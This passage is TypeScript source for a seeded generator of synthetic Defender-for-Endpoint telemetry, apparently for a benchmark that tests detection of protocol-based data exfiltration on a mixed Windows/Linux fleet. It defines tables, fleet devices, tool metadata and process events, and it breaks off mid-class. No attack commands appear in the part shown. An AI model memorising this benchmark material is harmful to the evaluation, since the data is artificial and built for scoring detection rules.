/**
 * Deterministic generator of Defender-for-Endpoint-shaped telemetry for a small mixed
 * Windows/Linux fleet: everyday noise, the five false-positive classes of the T1048.002 seed
 * rule, and five exfiltration incidents (I1–I5, as shared/ lists them).
 *
 *   node dist/bench/generate-sample.js [outDir]     writes the bundled sample
 *                                                    (default src/content/t1048.002/sample/)
 *
 * `generateFleet(options)` yields `{table, record}` one device-day at a time (records in time
 * order within it), so the benchmark can stream a fleet of any size; `fleetManifest(options)`
 * gives the ground truth. Everything comes from a seeded PRNG: no wall clock, no Math.random.
 * Records use Defender's column sets and order (src/schema/defender-tables.ts) plus our
 * extension columns SentBytes/ReceivedBytes on DeviceNetworkEvents; empty strings are "" and
 * missing numbers null, as advanced-hunting exports have them. ReportId is a per-device
 * counter; some devices' counters are past 2^53 and are written as exact JSON numbers
 * (`recordToJson`), so the records hold them as bigint.
 */
import { createHash } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { gzipSync } from 'node:zlib';
import { DEFENDER_TABLES } from '../src/schema/defender-tables.js';

// ---------------------------------------------------------------------------------------------
// Public shapes

export type SampleTable = 'DeviceProcessEvents' | 'DeviceNetworkEvents' | 'DeviceFileEvents' | 'DeviceEvents';
export const SAMPLE_TABLES: readonly SampleTable[] = ['DeviceProcessEvents', 'DeviceNetworkEvents', 'DeviceFileEvents', 'DeviceEvents'];

export interface FleetOptions {
  /** PRNG seed; the same seed gives the same records. Default 20261108. */
  seed?: number | string;
  /** Number of devices: the first N of the named fleet (14), then generated workstations and Linux servers. */
  devices?: number;
  /** Days to generate from `start`. Default 7. Incidents fall on days 1–5. */
  days?: number;
  /** First day, ISO (midnight UTC). Default 2026-11-01T00:00:00Z. */
  start?: string;
  /** Multiplier on everyday-noise volume (browsing, inbound web traffic, DNS...). Default 1. */
  scale?: number;
}

export interface FleetRecord {
  table: SampleTable;
  record: Record<string, unknown>;
}

export interface ManifestDevice {
  name: string;
  deviceId: string;
  os: 'Windows' | 'Linux';
  role: string;
  ip: string;
  users: string[];
}

export interface ManifestIncident {
  id: string;
  title: string;
  technique: string;
  techniques: string[];
  device: string;
  deviceId: string;
  account: string;
  /** FileName of the process that runs the transfer. */
  process: string;
  /** FileName of the process that makes the connections, when another (scp's ssh child). */
  networkProcess: string;
  commandLine: string;
  start: string;
  end: string;
  remoteIps: string[];
  remotePorts: number[];
  remoteUrls: string[];
  /** Sum of SentBytes of the network process's rows to remoteIps within [start, end]. */
  bytesSent: number;
  connections: number;
  stages: { time: string; table: SampleTable; what: string }[];
  detectionHints: string[];
  /** The seed rule's legs that match the incident's rows when its 24h window covers them. */
  seedLegsIfInWindow: string[];
}

export interface ManifestBenign {
  class: string;
  description: string;
  devices: string[];
  accounts: string[];
  processes: string[];
  destinations: string[];
  schedule: string;
  seedLegs: string[];
}

export interface Manifest {
  captureTime: string;
  generator: string;
  seed: number | string;
  start: string;
  days: number;
  timezone: string;
  tables: Record<string, number>;
  devices: ManifestDevice[];
  incidents: ManifestIncident[];
  benign: ManifestBenign[];
  notes: string[];
}

// ---------------------------------------------------------------------------------------------
// PRNG (sfc32 seeded by a string hash) and hashing helpers

export class Rng {
  private a: number;
  private b: number;
  private c: number;
  private d: number;

  constructor(seed: string) {
    let h = 1779033703 ^ seed.length;
    for (let i = 0; i < seed.length; i++) {
      h = Math.imul(h ^ seed.charCodeAt(i), 3432918353);
      h = (h << 13) | (h >>> 19);
    }
    const next = (): number => {
      h = Math.imul(h ^ (h >>> 16), 2246822507);
      h = Math.imul(h ^ (h >>> 13), 3266489909);
      return (h ^= h >>> 16) >>> 0;
    };
    this.a = next();
    this.b = next();
    this.c = next();
    this.d = next();
    for (let i = 0; i < 12; i++) this.next();
  }

  /** Uniform in [0, 1). */
  next(): number {
    const t0 = (this.a + this.b) | 0;
    this.a = this.b ^ (this.b >>> 9);
    this.b = (this.c + (this.c << 3)) | 0;
    this.c = (this.c << 21) | (this.c >>> 11);
    this.d = (this.d + 1) | 0;
    const t = (t0 + this.d) | 0;
    this.c = (this.c + t) | 0;
    return (t >>> 0) / 4294967296;
  }

  /** Integer in [lo, hi]. */
  int(lo: number, hi: number): number {
    return lo + Math.floor(this.next() * (hi - lo + 1));
  }

  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.next() * items.length)]!;
  }

  chance(p: number): boolean {
    return this.next() < p;
  }

  /** A count with the given mean (Poisson for small means, rounded normal for large). */
  count(mean: number): number {
    if (mean <= 0) return 0;
    if (mean > 30) return Math.max(0, Math.round(mean + Math.sqrt(mean) * this.gauss()));
    const l = Math.exp(-mean);
    let k = 0;
    let p = 1;
    do {
      k++;
      p *= this.next();
    } while (p > l);
    return k - 1;
  }

  gauss(): number {
    const u = 1 - this.next();
    const v = this.next();
    return Math.sqrt(-2 * Math.log(u)) * Math.cos(2 * Math.PI * v);
  }

  hex(n: number): string {
    let s = '';
    while (s.length < n) s += Math.floor(this.next() * 0x100000000).toString(16).padStart(8, '0');
    return s.slice(0, n);
  }
}

function digest(alg: 'sha256' | 'sha1' | 'md5', text: string): string {
  return createHash(alg).update(text).digest('hex');
}

function guidOf(text: string): string {
  const h = digest('sha1', text);
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-a${h.slice(17, 20)}-${h.slice(20, 32)}`;
}

// ---------------------------------------------------------------------------------------------
// Time: microseconds since the Unix epoch (exact in a double), written with 7 fractional digits

const SEC = 1_000_000;
const MIN = 60 * SEC;
const HOUR = 60 * MIN;
const DAY = 24 * HOUR;

export function formatTime(us: number): string {
  const whole = Math.floor(us / SEC);
  const iso = new Date(whole * 1000).toISOString().slice(0, 19);
  const frac = String(us - whole * SEC).padStart(6, '0');
  return `${iso}.${frac}${Math.floor(us / 7) % 10}Z`;
}

function isoSeconds(us: number): string {
  return new Date(Math.floor(us / SEC) * 1000).toISOString().replace('.000Z', 'Z');
}

// ---------------------------------------------------------------------------------------------
// Columns

type Rec = Record<string, unknown>;

interface Col {
  name: string;
  type: string;
}

const TABLE_COLUMNS: Record<SampleTable, Col[]> = (() => {
  const out = {} as Record<SampleTable, Col[]>;
  for (const t of SAMPLE_TABLES) {
    const def = DEFENDER_TABLES.find((d) => d.name === t);
    if (!def) throw new Error(`generate-sample: no Defender schema for ${t}`);
    const cols: Col[] = def.columns.map((c) => ({ name: c.name, type: c.type }));
    // Our extension columns (DESIGN.md); AccountName is not written: it falls back to InitiatingProcessAccountName.
    if (t === 'DeviceNetworkEvents') cols.push({ name: 'SentBytes', type: 'long' }, { name: 'ReceivedBytes', type: 'long' });
    out[t] = cols;
  }
  return out;
})();

function project(table: SampleTable, sup: Rec): Rec {
  const rec: Rec = {};
  for (const c of TABLE_COLUMNS[table]) {
    const v = sup[c.name];
    rec[c.name] = v === undefined || v === null ? (c.type === 'string' ? '' : null) : v;
  }
  return rec;
}

/** One JSON line, with bigint values (ReportId past 2^53) written as exact JSON numbers. */
export function recordToJson(rec: Record<string, unknown>): string {
  let s = '{';
  let first = true;
  for (const k in rec) {
    const v = rec[k];
    s += (first ? '' : ',') + JSON.stringify(k) + ':' + (typeof v === 'bigint' ? v.toString() : JSON.stringify(v ?? null));
    first = false;
  }
  return s + '}';
}

// ---------------------------------------------------------------------------------------------
// Images (executables) with version info and hashes

interface Image {
  path: string;
  fileName: string;
  company: string;
  product: string;
  version: string;
  internal: string;
  original: string;
  description: string;
  size: number;
  signer: string;
  signature: string;
  sha1: string;
  sha256: string;
  md5: string;
}

interface ImageInfo {
  company?: string;
  product?: string;
  version?: string;
  internal?: string;
  original?: string;
  description?: string;
  size?: number;
  signer?: string;
  signature?: string;
  /** Hash identity: the same bytes under another name or path keep their hashes. */
  bytes?: string;
}

const MS = 'Microsoft Corporation';
const WINOS = 'Microsoft® Windows® Operating System';
const WINVER = '10.0.22621.4317';

function baseName(p: string): string {
  const i = Math.max(p.lastIndexOf('\\'), p.lastIndexOf('/'));
  return p.slice(i + 1);
}

function image(p: string, info: ImageInfo = {}): Image {
  const fileName = baseName(p);
  const linux = p.startsWith('/');
  const bytes = info.bytes ?? `${fileName.toLowerCase()}|${info.version ?? ''}|${p.toLowerCase()}`;
  const size = info.size ?? 20_000 + (parseInt(digest('md5', bytes).slice(0, 6), 16) % 3_000_000);
  return {
    path: p,
    fileName,
    company: info.company ?? '',
    product: info.product ?? '',
    version: info.version ?? '',
    internal: info.internal ?? '',
    original: info.original ?? '',
    description: info.description ?? '',
    size,
    signer: linux ? '' : info.signer ?? 'OsVendor',
    signature: linux ? '' : info.signature ?? 'Valid',
    sha1: digest('sha1', 'bin:' + bytes),
    sha256: digest('sha256', 'bin:' + bytes),
    md5: digest('md5', 'bin:' + bytes),
  };
}

function win(p: string, description: string, original: string, extra: ImageInfo = {}): Image {
  return image(p, { company: MS, product: WINOS, version: WINVER, description, original, internal: original.replace(/\.(exe|dll)$/i, ''), ...extra });
}

const RCLONE_WIN: ImageInfo = {
  company: 'https://rclone.org', product: 'Rclone', version: '1.68.1', internal: 'rclone', original: 'rclone.exe',
  description: 'Rsync for cloud storage', size: 66_052_096, signer: 'None', signature: 'Unsigned', bytes: 'rclone-v1.68.1-windows-amd64',
};
const WINSCP: ImageInfo = {
  company: 'Martin Prikryl', product: 'WinSCP', version: '6.3.5.0', internal: 'winscp', original: 'winscp.exe',
  description: 'WinSCP: SFTP, FTP, WebDAV, S3 and SCP client', size: 28_381_928, signer: 'ThirdParty', bytes: 'winscp-6.3.5.exe',
};
const WINSCP_COM: ImageInfo = {
  company: 'Martin Prikryl', product: 'WinSCP', version: '6.3.5.0', internal: 'console', original: 'winscp.com',
  description: 'Console interface for WinSCP', size: 1_001_256, signer: 'ThirdParty', bytes: 'winscp-6.3.5.com',
};
const EDGE_VER = '130.0.2849.80';
const CHROME_VER = '130.0.6723.117';
const OFFICE = (exe: string, description: string): Image =>
  image(`C:\\Program Files\\Microsoft Office\\root\\Office16\\${exe}`, {
    company: MS, product: 'Microsoft Office', version: '16.0.18129.20158', description, original: exe, internal: exe.replace(/\.EXE$/i, ''), signer: 'Microsoft',
  });

const W = {
  system: win('C:\\Windows\\System32\\ntoskrnl.exe', 'NT Kernel & System', 'ntkrnlmp.exe'),
  smss: win('C:\\Windows\\System32\\smss.exe', 'Windows Session Manager', 'smss.exe'),
  wininit: win('C:\\Windows\\System32\\wininit.exe', 'Windows Start-Up Application', 'WinInit.exe'),
  winlogon: win('C:\\Windows\\System32\\winlogon.exe', 'Windows Logon Application', 'WINLOGON.EXE'),
  services: win('C:\\Windows\\System32\\services.exe', 'Services and Controller app', 'services.exe'),
  lsass: win('C:\\Windows\\System32\\lsass.exe', 'Local Security Authority Process', 'lsass.exe'),
  svchost: win('C:\\Windows\\System32\\svchost.exe', 'Host Process for Windows Services', 'svchost.exe'),
  userinit: win('C:\\Windows\\System32\\userinit.exe', 'Userinit Logon Application', 'USERINIT.EXE'),
  explorer: win('C:\\Windows\\explorer.exe', 'Windows Explorer', 'EXPLORER.EXE'),
  cmd: win('C:\\Windows\\System32\\cmd.exe', 'Windows Command Processor', 'Cmd.Exe'),
  conhost: win('C:\\Windows\\System32\\conhost.exe', 'Console Window Host', 'CONHOST.EXE'),
  powershell: win('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'Windows PowerShell', 'PowerShell.EXE'),
  taskhostw: win('C:\\Windows\\System32\\taskhostw.exe', 'Host Process for Windows Tasks', 'taskhostw.exe'),
  runtimebroker: win('C:\\Windows\\System32\\RuntimeBroker.exe', 'Runtime Broker', 'RuntimeBroker.exe'),
  bgtaskhost: win('C:\\Windows\\System32\\backgroundTaskHost.exe', 'Background Task Host', 'backgroundTaskHost.exe'),
  searchprotocol: win('C:\\Windows\\System32\\SearchProtocolHost.exe', 'Microsoft Windows Search Protocol Host', 'SearchProtocolHost.exe'),
  wmiprvse: win('C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', 'WMI Provider Host', 'Wmiprvse.exe'),
  compattel: win('C:\\Windows\\System32\\CompatTelRunner.exe', 'Microsoft Compatibility Telemetry', 'CompatTelRunner.exe'),
  sihost: win('C:\\Windows\\System32\\sihost.exe', 'Shell Infrastructure Host', 'sihost.exe'),
  ctfmon: win('C:\\Windows\\System32\\ctfmon.exe', 'CTF Loader', 'CTFMON.EXE'),
  rdpclip: win('C:\\Windows\\System32\\rdpclip.exe', 'RDP Clipboard Monitor', 'rdpclip.exe'),
  notepad: win('C:\\Windows\\System32\\notepad.exe', 'Notepad', 'NOTEPAD.EXE'),
  ipconfig: win('C:\\Windows\\System32\\ipconfig.exe', 'IP Configuration Utility', 'ipconfig.exe'),
  ping: win('C:\\Windows\\System32\\PING.EXE', 'TCP/IP Ping Command', 'ping.exe'),
  whoami: win('C:\\Windows\\System32\\whoami.exe', 'whoami - displays logged on user information', 'whoami.exe'),
  gpupdate: win('C:\\Windows\\System32\\gpupdate.exe', 'Microsoft® Group Policy Update Utility', 'GPUpdate.exe'),
  curl: image('C:\\Windows\\System32\\curl.exe', {
    company: 'curl, https://curl.se/', product: 'The curl executable', version: '8.9.1.0', internal: 'curl', original: 'curl.exe',
    description: 'The curl executable', size: 662_016, signer: 'OsVendor',
  }),
  ssh: image('C:\\Windows\\System32\\OpenSSH\\ssh.exe', { company: MS, product: 'OpenSSH for Windows', version: '9.5.4.1', internal: 'ssh', original: 'ssh.exe', description: 'OpenSSH SSH client', size: 1_146_368 }),
  sftp: image('C:\\Windows\\System32\\OpenSSH\\sftp.exe', { company: MS, product: 'OpenSSH for Windows', version: '9.5.4.1', internal: 'sftp', original: 'sftp.exe', description: 'OpenSSH SFTP client', size: 526_336 }),
  scp: image('C:\\Windows\\System32\\OpenSSH\\scp.exe', { company: MS, product: 'OpenSSH for Windows', version: '9.5.4.1', internal: 'scp', original: 'scp.exe', description: 'OpenSSH SCP client', size: 415_744 }),
  mssense: image('C:\\Program Files\\Windows Defender Advanced Threat Protection\\MsSense.exe', {
    company: MS, product: WINOS, version: '10.8760.22621.1309', description: 'Windows Defender Advanced Threat Protection Service Executable', original: 'MsSense.exe', internal: 'MsSense.exe', signer: 'Microsoft',
  }),
  msmpeng: image('C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe', {
    company: MS, product: WINOS, version: '4.18.24090.11', description: 'Antimalware Service Executable', original: 'MsMpEng.exe', internal: 'MsMpEng.exe', signer: 'Microsoft',
  }),
  mpcmdrun: image('C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe', {
    company: MS, product: WINOS, version: '4.18.24090.11', description: 'Microsoft Malware Protection Command Line Utility', original: 'MpCmdRun.exe', internal: 'MpCmdRun', signer: 'Microsoft',
  }),
  googleupdate: image('C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe', {
    company: 'Google LLC', product: 'Google Update', version: '1.3.36.372', description: 'Google Installer', original: 'GoogleUpdate.exe', internal: 'Google Update', signer: 'ThirdParty',
  }),
  edgeupdate: image('C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe', {
    company: MS, product: 'Microsoft Edge Update', version: '1.3.195.31', description: 'Microsoft Edge Update', original: 'MicrosoftEdgeUpdate.exe', internal: 'Microsoft Edge Update', signer: 'Microsoft',
  }),
  onedrive: image('C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe', {
    company: MS, product: 'Microsoft OneDrive', version: '24.201.1006.0005', description: 'Microsoft OneDrive', original: 'OneDrive.exe', internal: 'OneDrive.exe', signer: 'Microsoft',
  }),
  onedriveupdater: image('C:\\Program Files\\Microsoft OneDrive\\OneDriveStandaloneUpdater.exe', {
    company: MS, product: 'Microsoft OneDrive', version: '24.201.1006.0005', description: 'Microsoft OneDrive Standalone Updater', original: 'OneDriveStandaloneUpdater.exe', internal: 'OneDriveStandaloneUpdater.exe', signer: 'Microsoft',
  }),
  chrome: image('C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', {
    company: 'Google LLC', product: 'Google Chrome', version: CHROME_VER, description: 'Google Chrome', original: 'chrome.exe', internal: 'chrome_exe', signer: 'ThirdParty',
  }),
  msedge: image('C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', {
    company: MS, product: 'Microsoft Edge', version: EDGE_VER, description: 'Microsoft Edge', original: 'msedge.exe', internal: 'msedge_exe', signer: 'Microsoft',
  }),
  outlook: OFFICE('OUTLOOK.EXE', 'Microsoft Outlook'),
  excel: OFFICE('EXCEL.EXE', 'Microsoft Excel'),
  winword: OFFICE('WINWORD.EXE', 'Microsoft Word'),
  powerpnt: OFFICE('POWERPNT.EXE', 'Microsoft PowerPoint'),
  teams: image('C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\ms-teams.exe', {
    company: MS, product: 'Microsoft Teams', version: '24295.605.3225.8804', description: 'Microsoft Teams', original: 'ms-teams.exe', internal: 'ms-teams', signer: 'Microsoft',
  }),
  thunderbird: image('C:\\Program Files\\Mozilla Thunderbird\\thunderbird.exe', {
    company: 'Mozilla Corporation', product: 'Thunderbird', version: '128.4.0', description: 'Thunderbird', original: 'thunderbird.exe', internal: 'thunderbird', signer: 'ThirdParty',
  }),
  git: image('C:\\Program Files\\Git\\cmd\\git.exe', {
    company: 'The Git Development Community', product: 'Git', version: '2.47.0.1', description: 'Git for Windows', original: 'git.exe', internal: 'git', signer: 'ThirdParty',
  }),
  gitremotehttps: image('C:\\Program Files\\Git\\mingw64\\libexec\\git-core\\git-remote-https.exe', {
    company: 'The Git Development Community', product: 'Git', version: '2.47.0.1', description: 'Git for Windows', original: 'git-remote-https.exe', internal: 'git-remote-https', signer: 'ThirdParty',
  }),
  winscp: image('C:\\Program Files (x86)\\WinSCP\\WinSCP.exe', WINSCP),
  filezilla: image('C:\\Program Files\\FileZilla FTP Client\\filezilla.exe', {
    company: 'FileZilla Project', product: 'FileZilla', version: '3.67.1.0', description: 'FileZilla FTP Client', original: 'filezilla.exe', internal: 'filezilla', signer: 'ThirdParty',
  }),
  fzsftp: image('C:\\Program Files\\FileZilla FTP Client\\fzsftp.exe', {
    company: 'FileZilla Project', product: 'FileZilla', version: '3.67.1.0', description: "SFTP module for FileZilla based on PuTTY's psftp component", original: 'fzsftp.exe', internal: 'fzsftp', signer: 'ThirdParty',
  }),
  pscp: image('C:\\Program Files\\PuTTY\\pscp.exe', {
    company: 'Simon Tatham', product: 'PuTTY suite', version: '0.81.0.0', description: 'Command-line SCP/SFTP client', original: 'PSCP', internal: 'PSCP', signer: 'ThirdParty',
  }),
  veeamservice: image('C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe', {
    company: 'Veeam Software Group GmbH', product: 'Veeam Agent for Microsoft Windows', version: '6.2.0.121', description: 'Veeam Agent for Microsoft Windows Service', original: 'Veeam.EndPoint.Service.exe', internal: 'Veeam.EndPoint.Service.exe', signer: 'ThirdParty',
  }),
  veeamagent: image('C:\\Program Files\\Veeam\\Endpoint Backup\\VeeamAgent.exe', {
    company: 'Veeam Software Group GmbH', product: 'Veeam Agent for Microsoft Windows', version: '6.2.0.121', description: 'Veeam Agent', original: 'VeeamAgent.exe', internal: 'VeeamAgent.exe', signer: 'ThirdParty',
  }),
  code: (user: string) => image(`C:\\Users\\${user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe`, {
    company: MS, product: 'Visual Studio Code', version: '1.95.1', description: 'Visual Studio Code', original: 'electron.exe', internal: 'Code', signer: 'Microsoft', bytes: 'vscode-1.95.1',
  }),
} as const;

/** Linux images: no version info; the same binary on every host of a distribution. */
function lx(p: string, distro: string, fileName?: string): Image {
  const img = image(p, { bytes: `${distro}:${p}` });
  return fileName ? { ...img, fileName } : img;
}

// ---------------------------------------------------------------------------------------------
// Fleet

type Role = 'workstation' | 'admin' | 'security' | 'build' | 'backup' | 'database' | 'web' | 'app';

interface User {
  name: string;
  rid: number;
}

interface DeviceDef {
  name: string;
  os: 'Windows' | 'Linux';
  role: Role;
  ip: string;
  user?: User;
  dept?: string;
  distro?: 'ubuntu' | 'rhel';
  /** Probability the user logs on on a weekend day. */
  weekendUse?: number;
}

const DOMAIN = 'corp';
const DOMAIN_SID = 'S-1-5-21-1844237615-456351123-1597013537';
const UPN_SUFFIX = 'corp.example';

const NAMED_FLEET: DeviceDef[] = [
  { name: 'WS-FIN-03', os: 'Windows', role: 'workstation', ip: '10.10.20.31', user: { name: 'j.doe', rid: 1131 }, dept: 'finance', weekendUse: 0.1 },
  { name: 'WS-HR-07', os: 'Windows', role: 'workstation', ip: '10.10.20.47', user: { name: 'a.lee', rid: 1147 }, dept: 'hr', weekendUse: 0.05 },
  { name: 'WS-ENG-11', os: 'Windows', role: 'workstation', ip: '10.10.21.11', user: { name: 'm.chan', rid: 1211 }, dept: 'engineering', weekendUse: 0.2 },
  { name: 'WS-SAL-02', os: 'Windows', role: 'workstation', ip: '10.10.22.2', user: { name: 'k.ortiz', rid: 1302 }, dept: 'sales', weekendUse: 0.4 },
  { name: 'ADM-01', os: 'Windows', role: 'admin', ip: '10.10.1.10', user: { name: 'it.admin', rid: 1010 }, dept: 'it', weekendUse: 1 },
  { name: 'SEC-01', os: 'Windows', role: 'security', ip: '10.20.0.20', user: { name: 'sec.analyst', rid: 1020 }, dept: 'security', weekendUse: 1 },
  { name: 'build-01', os: 'Linux', role: 'build', ip: '10.10.6.11', distro: 'ubuntu' },
  { name: 'build-02', os: 'Linux', role: 'build', ip: '10.10.6.12', distro: 'ubuntu' },
  { name: 'backup-01', os: 'Linux', role: 'backup', ip: '10.10.5.40', distro: 'ubuntu' },
  { name: 'srv-db-02', os: 'Linux', role: 'database', ip: '10.10.5.22', distro: 'rhel' },
  { name: 'web-01', os: 'Linux', role: 'web', ip: '10.10.5.30', distro: 'ubuntu' },
  { name: 'WS-MKT-04', os: 'Windows', role: 'workstation', ip: '10.10.22.14', user: { name: 'p.nguyen', rid: 1314 }, dept: 'marketing', weekendUse: 0.15 },
  { name: 'WS-ENG-05', os: 'Windows', role: 'workstation', ip: '10.10.21.5', user: { name: 'r.singh', rid: 1205 }, dept: 'engineering', weekendUse: 0.3 },
  { name: 'WS-FIN-01', os: 'Windows', role: 'workstation', ip: '10.10.20.11', user: { name: 's.berg', rid: 1111 }, dept: 'finance', weekendUse: 0.05 },
];

const DEPTS = ['finance', 'hr', 'engineering', 'sales', 'marketing'];

function fleetDefs(n: number): DeviceDef[] {
  const out = NAMED_FLEET.slice(0, Math.min(n, NAMED_FLEET.length));
  for (let i = out.length; i < n; i++) {
    const k = i - NAMED_FLEET.length + 1;
    const id = String(k).padStart(4, '0');
    const third = 100 + Math.floor(k / 250);
    const fourth = 1 + (k % 250);
    if (k % 4 === 0) {
      out.push({ name: `app-${id}`, os: 'Linux', role: 'app', ip: `10.12.${third - 100}.${fourth}`, distro: 'ubuntu' });
    } else {
      out.push({
        name: `WS-GEN-${id}`, os: 'Windows', role: 'workstation', ip: `10.11.${third - 100}.${fourth}`,
        user: { name: `user${id}`, rid: 20000 + k }, dept: DEPTS[k % DEPTS.length], weekendUse: 0.1,
      });
    }
  }
  return out;
}

function deviceIdOf(name: string): string {
  return digest('sha1', `mde-device:${name}`);
}

// ---------------------------------------------------------------------------------------------
// Accounts and processes

interface Account {
  domain: string;
  name: string;
  sid: string;
  upn: string;
  objectId: string;
}

function domainUser(u: User): Account {
  return { domain: DOMAIN, name: u.name, sid: `${DOMAIN_SID}-${u.rid}`, upn: `${u.name}@${UPN_SUFFIX}`, objectId: guidOf(`aad:${u.name}`) };
}

const SYSTEM: Account = { domain: 'nt authority', name: 'system', sid: 'S-1-5-18', upn: '', objectId: '' };
const LOCAL_SERVICE: Account = { domain: 'nt authority', name: 'local service', sid: 'S-1-5-19', upn: '', objectId: '' };
const NETWORK_SERVICE: Account = { domain: 'nt authority', name: 'network service', sid: 'S-1-5-20', upn: '', objectId: '' };

function linuxAccount(host: string, name: string): Account {
  return { domain: host, name, sid: '', upn: '', objectId: '' };
}

interface RemoteSession {
  device: string;
  ip: string;
}

interface Proc {
  img: Image;
  path: string;
  name: string;
  cmd: string;
  pid: number;
  created: number;
  acct: Account;
  logonId: number | null;
  integrity: string;
  elevation: string;
  session: number | null;
  remote: RemoteSession | null;
  parent: Proc | null;
  uid: string;
  windows: boolean;
  /** formatTime(created), cached. */
  createdText?: string;
}

interface SpawnOptions {
  acct?: Account;
  logonId?: number | null;
  integrity?: string;
  elevation?: string;
  session?: number | null;
  remote?: RemoteSession | null;
  /** Where this copy of the image lives (renamed or portable binaries). */
  path?: string;
  /** Pid to use (long-lived processes set up before the window). */
  pid?: number;
}

// ---------------------------------------------------------------------------------------------
// Device state and the per-day emitter

interface DevState {
  def: DeviceDef;
  id: string;
  windows: boolean;
  reportId: bigint;
  nextPid: number;
  procSeq: number;
  rng: Rng;
  user?: Account;
  boot: Record<string, Proc>;
  /** Linux: distribution-specific images. */
  lx?: Record<string, Image>;
  buildNo: number;
}

interface Row {
  us: number;
  table: SampleTable;
  sup: Rec;
}

function ipType(ip: string): string {
  if (ip === '') return '';
  if (ip.startsWith('127.')) return 'Loopback';
  const [a = 0, b = 0] = ip.split('.').map(Number);
  if (a === 10 || (a === 172 && b >= 16 && b <= 31) || (a === 192 && b === 168)) return 'Private';
  return 'Public';
}

interface NetSpec {
  ip: string;
  port: number;
  url?: string;
  action?: string;
  proto?: 'Tcp' | 'Udp';
  sent?: number | null;
  recv?: number | null;
  localPort?: number;
  additional?: Rec;
  /** Also emit a SslConnectionInspected row (Windows, network protection) for this connection. */
  tls?: boolean;
  tlsVersion?: string;
}

interface FileSpec {
  action: 'FileCreated' | 'FileModified' | 'FileRenamed' | 'FileDeleted';
  path: string;
  size?: number;
  originUrl?: string;
  originIp?: string;
  referrer?: string;
  previousPath?: string;
  additional?: Rec;
}

class Day {
  readonly rows: Row[] = [];
  /** User sessions logged on during the day (incidents run inside them). */
  readonly sessions: Session[] = [];
  constructor(
    readonly dev: DevState,
    readonly rng: Rng,
    readonly t0: number,
    readonly index: number,
    readonly scale: number,
  ) {}

  get weekend(): boolean {
    const dow = new Date(this.t0 / 1000).getUTCDay();
    return dow === 0 || dow === 6;
  }

  at(hour: number, minute = 0, second = 0): number {
    return this.t0 + hour * HOUR + minute * MIN + second * SEC + this.rng.int(0, SEC - 1);
  }

  /** A random time between two hours of this day. */
  between(h0: number, h1: number): number {
    return this.t0 + Math.floor(h0 * HOUR + this.rng.next() * (h1 - h0) * HOUR);
  }

  pid(): number {
    const d = this.dev;
    if (d.windows) return 4 * this.rng.int(250, 16000);
    d.nextPid += this.rng.int(1, 40);
    if (d.nextPid > 4_194_000) d.nextPid = 1200;
    return d.nextPid;
  }

  proc(parent: Proc | null, img: Image, cmd: string, created: number, o: SpawnOptions = {}): Proc {
    const d = this.dev;
    const acct = o.acct ?? parent?.acct ?? SYSTEM;
    const windows = d.windows;
    const isSystem = acct.sid === 'S-1-5-18' || acct.sid === 'S-1-5-19' || acct.sid === 'S-1-5-20';
    const p: Proc = {
      img,
      path: o.path ?? img.path,
      name: baseName(o.path ?? img.path),
      cmd,
      pid: o.pid ?? this.pid(),
      created,
      acct,
      logonId: windows ? (o.logonId !== undefined ? o.logonId : parent?.acct === acct ? parent.logonId : isSystem ? 999 : null) : null,
      integrity: windows ? o.integrity ?? (parent?.acct === acct ? parent.integrity : isSystem ? 'System' : 'Medium') : '',
      elevation: windows ? o.elevation ?? (parent?.acct === acct ? parent.elevation : 'TokenElevationTypeDefault') : '',
      session: windows ? (o.session !== undefined ? o.session : parent?.session ?? 0) : null,
      remote: o.remote !== undefined ? o.remote : parent?.remote ?? null,
      parent,
      uid: String(2_251_799_813_685_248 + d.procSeq * 4 + 1),
      windows,
    };
    d.procSeq++;
    return p;
  }

  /** Hand-placed times (whole milliseconds) get sub-millisecond digits, as sensor clocks have. */
  jitter(us: number): number {
    return us % 1000 === 0 ? us + this.rng.int(1, 999) : us;
  }

  spawn(parent: Proc, img: Image, cmd: string, us0: number, o: SpawnOptions = {}): Proc {
    const us = this.jitter(us0);
    const p = this.proc(parent, img, cmd, us, o);
    const q = parent;
    // The event is reported a little after the process is created.
    const ts = us + this.rng.int(50, 30_000);
    const sup = this.common(ts, 'ProcessCreated');
    Object.assign(sup, {
      FileName: p.name,
      FolderPath: p.path,
      SHA1: img.sha1,
      SHA256: img.sha256,
      MD5: img.md5,
      FileSize: img.size,
      ProcessVersionInfoCompanyName: img.company,
      ProcessVersionInfoProductName: img.product,
      ProcessVersionInfoProductVersion: img.version,
      ProcessVersionInfoInternalFileName: img.internal,
      ProcessVersionInfoOriginalFileName: img.original,
      ProcessVersionInfoFileDescription: img.description,
      ProcessId: p.pid,
      ProcessCommandLine: cmd,
      ProcessIntegrityLevel: p.integrity,
      ProcessTokenElevation: p.elevation,
      ProcessCreationTime: formatTime(us),
      AccountDomain: p.acct.domain,
      AccountName: p.acct.name,
      AccountSid: p.acct.sid,
      AccountUpn: p.acct.upn,
      AccountObjectId: p.acct.objectId,
      LogonId: p.logonId,
      CreatedProcessSessionId: p.session,
      IsProcessRemoteSession: p.windows ? p.remote !== null : null,
      ProcessRemoteSessionDeviceName: p.remote?.device ?? '',
      ProcessRemoteSessionIP: p.remote?.ip ?? '',
      ProcessUniqueId: p.uid,
    });
    initiating(sup, q, false);
    this.rows.push({ us: ts, table: 'DeviceProcessEvents', sup });
    return p;
  }

  common(us: number, action: string): Rec {
    return { Timestamp: formatTime(us), DeviceId: this.dev.id, DeviceName: this.dev.def.name, ActionType: action, AppGuardContainerId: '' };
  }

  ephemeral(): number {
